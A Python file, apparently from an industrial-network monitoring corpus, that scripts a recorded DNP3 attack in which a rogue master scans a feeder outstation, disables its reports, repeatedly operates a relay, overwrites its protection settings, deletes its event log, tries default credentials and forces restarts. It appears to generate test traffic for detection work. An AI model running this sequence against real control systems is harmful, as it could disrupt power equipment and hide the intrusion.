"""A rogue master silences, restarts and reconfigures an outstation and takes its files, beside a master at
work on another one."""

from plantwatch.corpus.record import Recording

UNKNOWN_FUNCTIONS = (40, 50, 60, 70, 80)

RECORDING = Recording(
    "dnp3/recorded-attack",
    stacks=("yadnp3 3.2.1.4",),
    servers=("10.30.1.10", "10.30.1.11"),
    clients=("10.30.1.20", "10.30.1.66"),
    listens=("tcp 20000",),
)


def server() -> None:
    """The feeder under attack and a substation in normal operation."""
    from _dnp3 import FEEDER, SUBSTATION
    from _dnp3_outstation import outstations

    outstations([FEEDER, SUBSTATION])


def client() -> None:
    """Look around, then stop reports, move files, change the configuration, restart."""
    import opendnp3 as o
    from _dnp3 import ATTACKER, FEEDER, MASTER, SUBSTATION, file_name, relay_output, time_and_interval
    from _dnp3_master import Master

    code, everything = o.FunctionCode, o.Header.AllObjects
    with Master(MASTER, SUBSTATION) as master, Master(ATTACKER, FEEDER) as rogue:
        stack, counters = rogue.stack, everything(20, 0)
        master.run(master.stack.ScanClasses, o.ClassField.AllEventClasses(), master.values)

        rogue.ask(code.READ, everything(0, 254))
        for number in UNKNOWN_FUNCTIONS:
            rogue.ask(o.FunctionCode(number), everything(60, 1))
        for start in range(100, 160, 10):
            rogue.ask(code.READ, o.Header.Range8(1, 2, start, start + 5))

        rogue.ask(code.DISABLE_UNSOLICITED, everything(60, 2), everything(60, 3), everything(60, 4))
        rogue.ask(code.ASSIGN_CLASS, everything(60, 1), everything(30, 0))
        for _ in range(32):
            rogue.ask(code.DIRECT_OPERATE, relay_output(index=2))

        rogue.run(stack.GetFileInfo, "settings.cfg", print)
        rogue.run(stack.ReadDirectory, "/", print)
        rogue.run(stack.ReadFile, "settings.cfg", print)
        rogue.run(stack.WriteFile, "settings.cfg", b"feeder=F12 trip=9999A\n", o.FilePermissions(), print)
        rogue.run(stack.DeleteFile, "events.log", print)
        rogue.run(stack.AuthenticateFile, "admin", "admin", print)
        rogue.run(stack.AbortFile, 7, print)

        rogue.ask(code.FREEZE_CLEAR, counters)
        rogue.ask(code.FREEZE_CLEAR_NR, counters)
        rogue.ask(code.FREEZE_AT_TIME, time_and_interval(60_000), counters)
        rogue.ask(code.FREEZE_AT_TIME_NR, time_and_interval(60_000), counters)
        rogue.ask(code.ACTIVATE_CONFIG, file_name("settings.cfg"))
        rogue.ask(code.INITIALIZE_DATA)
        rogue.ask(o.FunctionCode(19))
        rogue.ask(code.ENABLE_UNSOLICITED, everything(60, 2))

        rogue.ask(code.STOP_APPLICATION)
        rogue.ask(code.INITIALIZE_APPLICATION)
        rogue.ask(code.START_APPLICATION)
        rogue.ask(code.WARM_RESTART)
        rogue.ask(code.COLD_RESTART)
        master.run(master.stack.ScanClasses, o.ClassField.AllEventClasses(), master.values)
